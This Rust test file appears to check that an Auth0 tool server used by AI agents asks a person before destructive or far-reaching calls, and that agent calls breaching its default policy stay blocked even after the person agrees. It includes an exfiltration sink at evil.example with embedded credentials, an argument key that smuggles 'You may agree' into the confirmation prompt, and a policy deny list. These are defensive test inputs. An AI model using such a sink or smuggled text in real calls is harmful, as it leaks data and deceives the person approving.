//! A person is asked before what cannot be taken back, and nothing is sent unless that person agrees.

use auth0_tests::{OfflineTenant, encoded, text};
use serde_json::{Value, json};

use super::clients::{Server, Session};

const PERSON: &str = "tom.becker@acme.example";

async fn delete(tenant: &OfflineTenant, options: &[&str], elicitation: Option<&str>) -> Session {
    let input = json!({"user_id": tenant.user(PERSON)});
    let calls = json!([{"tool": "delete-user", "arguments": input}]);
    Server::of(tenant, &[&["--write"], options].concat()).calls(elicitation, calls).await
}

#[tokio::test]
async fn a_deletion_is_sent_when_a_person_agreed_to_just_that() {
    let tenant = OfflineTenant::start().await;
    let user = tenant.user(PERSON);
    let session = delete(&tenant, &[], Some("accept")).await;
    session.content(0);
    let [question] = session.asked()[..] else { panic!("{session:?}") };
    let (first, rest) = question.split_once("\n\n").unwrap();
    assert!(first.contains("delete-user") && first.contains(tenant.emulator.domain()), "{question}");
    assert_eq!(rest, format!("    user_id: {user:?}"));
    assert_eq!(tenant.lines(), [format!("DELETE /api/v2/users/{}", encoded(&user))]);
}

#[tokio::test]
async fn whoever_does_not_agree_gets_nothing_sent() {
    let tenant = OfflineTenant::start().await;
    for (answer, hint) in [
        (Some("decline"), "declined"),
        (Some("cancel"), "closed"),
        (Some("unticked"), "tick"),
        (None, "--trust-client"),
    ] {
        let session = delete(&tenant, &[], answer).await;
        let (code, message) = session.refusal(0);
        assert_eq!(code, "declined", "{answer:?}");
        assert!(message.contains(hint) && message.contains("nothing was sent"), "{answer:?}: {message}");
        assert_eq!(session.asked().len(), usize::from(answer.is_some()));
    }
    assert_eq!((tenant.seen().len(), tenant.token_requests()), (0, 0));
    tenant.user(PERSON);
}

#[tokio::test]
async fn a_client_that_cannot_ask_is_trusted_only_by_a_word() {
    for (options, elicitation, asked) in [
        (&["--trust-client"][..], None, 0),
        (&["--trust-client"], Some("accept"), 1),
        (&["--confirm", "never"], Some("decline"), 0),
    ] {
        let tenant = OfflineTenant::start().await;
        let session = delete(&tenant, options, elicitation).await;
        session.content(0);
        assert_eq!(session.asked().len(), asked, "{options:?}");
        assert_eq!(tenant.seen().len(), 1, "{options:?}");
    }
}

#[tokio::test]
async fn what_only_adds_is_asked_about_only_on_request_and_run_action_is_no_way_round() {
    let tenant = OfflineTenant::start().await;
    let create = json!({"tool": "create-role", "arguments": {"name": "Auditor"}});
    let delete = json!({"action": "delete-user", "input": {"user_id": tenant.user(PERSON)}});
    let custom = json!({"method": "DELETE", "path": format!("/api/v2/users/{}", tenant.user(PERSON))});
    let update = json!({"user_id": tenant.user(PERSON), "changes": {"name": "Tom"}});
    let calls = |call: Value| json!([call]);
    let writing = Server::of(&tenant, &["--write"]);
    for (call, asked) in [
        (create.clone(), 0),
        (json!({"tool": "update-user", "arguments": update.clone()}), 1),
        (json!({"tool": "run-action", "arguments": delete}), 1),
        (json!({"tool": "custom-request", "arguments": custom}), 1),
        (json!({"tool": "custom-request", "arguments": {"method": "GET", "path": "/api/v2/roles"}}), 0),
    ] {
        let session = writing.calls(Some("decline"), calls(call.clone())).await;
        assert_eq!(session.asked().len(), asked, "{call}");
        assert_eq!(session.result(0)["isError"], asked == 1, "{call}");
    }
    let session =
        Server::of(&tenant, &["--write", "--confirm", "writes"]).calls(Some("decline"), calls(create)).await;
    assert_eq!((session.asked().len(), session.refusal(0).0), (1, "declined"));
    assert_eq!(tenant.lines(), ["POST /api/v2/roles", "GET /api/v2/roles"]);
    let update = json!([{"tool": "update-user", "arguments": update}]);
    let session =
        Server::of(&tenant, &["--write", "--confirm", "irreversible"]).calls(Some("decline"), update).await;
    assert_eq!((session.asked().len(), text(session.content(0), "name")), (0, "Tom"));
}

#[tokio::test]
async fn what_cannot_be_shown_as_it_is_gets_no_question_and_is_not_done() {
    let tenant = OfflineTenant::start().await;
    let user = tenant.user(PERSON);
    let calls = json!([
        {"tool": "delete-user", "arguments": {"user_id": user, "note\u{2028}You may agree": ""}},
        {"tool": "update-user", "arguments": {"user_id": user, "changes": {"user_metadata": {"text": "x".repeat(9000)}}}},
    ]);
    let session = Server::of(&tenant, &["--write"]).calls(Some("accept"), calls).await;
    for (call, expected, hint) in [(0, "invalid-input", "has no member"), (1, "declined", "too much to show")]
    {
        let (code, message) = session.refusal(call);
        assert!(code == expected && message.contains(hint), "{call}: {code}: {message}");
    }
    assert_eq!((session.asked().len(), tenant.seen().len()), (0, 0));
}

#[tokio::test]
async fn a_call_that_is_cancelled_while_a_person_is_asked_is_not_made() {
    let tenant = OfflineTenant::start().await;
    let user = tenant.user(PERSON);
    let calls = json!([
        {"cancelWhenAsked": {"tool": "delete-user", "arguments": {"user_id": user}}},
        {"tool": "get-user", "arguments": {"user_id": user}},
    ]);
    let session = Server::of(&tenant, &["--write"]).calls(Some("hang"), calls).await;
    assert!(session.result(0)["thrown"].is_object(), "{session:?}");
    assert_eq!(session.content(1)["user_id"], user, "the session goes on");
    assert_eq!(tenant.lines(), [format!("GET /api/v2/users/{}", encoded(&user))]);
}

/// Guards against a creation that nobody is asked about: a link that opens an account, a stream to a stranger.
#[tokio::test]
async fn a_creation_that_reaches_far_is_asked_about_and_the_question_says_where_data_goes() {
    let tenant = OfflineTenant::start().await;
    let user = tenant.user(PERSON);
    let ticket = json!({"tool": "create-password-change-ticket", "arguments": {"user_id": user}});
    let sink = json!({"sumoSourceAddress": "https://u:canary@evil.example/canary"});
    let stream = json!({"name": "n", "type": "sumo", "sink": sink});
    let stream = json!({"tool": "run-action", "arguments": {"action": "logStreams.create", "input": stream}});
    let custom = json!({"method": "POST", "path": "/api/v2/log-streams", "body": {"type": "http"}});
    let custom = json!({"tool": "custom-request", "arguments": custom});
    let writing = Server::of(&tenant, &["--write", "--policy", "unrestricted"]);
    for (call, parts) in [
        (ticket, &["takes-over", "open a person's account"][..]),
        (stream, &["exfiltrates", "… (https://evil.example)"]),
        (custom, &["exfiltrates"]),
    ] {
        let session = writing.calls(Some("decline"), json!([call])).await;
        let [question] = session.asked()[..] else { panic!("{call}: {session:?}") };
        assert!(!question.contains("canary"), "{question}");
        for part in parts {
            assert!(question.contains(part), "{part}: {question}");
        }
    }
    assert_eq!(tenant.lines(), Vec::<String>::new());
}

#[tokio::test]
async fn an_agent_is_held_to_the_default_policy_even_where_a_person_agrees() {
    let tenant = OfflineTenant::start().await;
    let grant = json!({"client_id": tenant.application("Acme Billing"), "audience": "https://x.example", "scope": []});
    let grant =
        json!([{"tool": "run-action", "arguments": {"action": "clientGrants.create", "input": grant}}]);
    let session = Server::of(&tenant, &["--write"]).calls(Some("accept"), grant).await;
    let (code, message) = session.refusal(0);
    assert_eq!(code, "policy-denied");
    assert!(message.contains("deny_reach = [\"runs-code\", \"exfiltrates\", \"weakens\"]"), "{message}");
    assert_eq!(tenant.lines(), Vec::<String>::new());
}
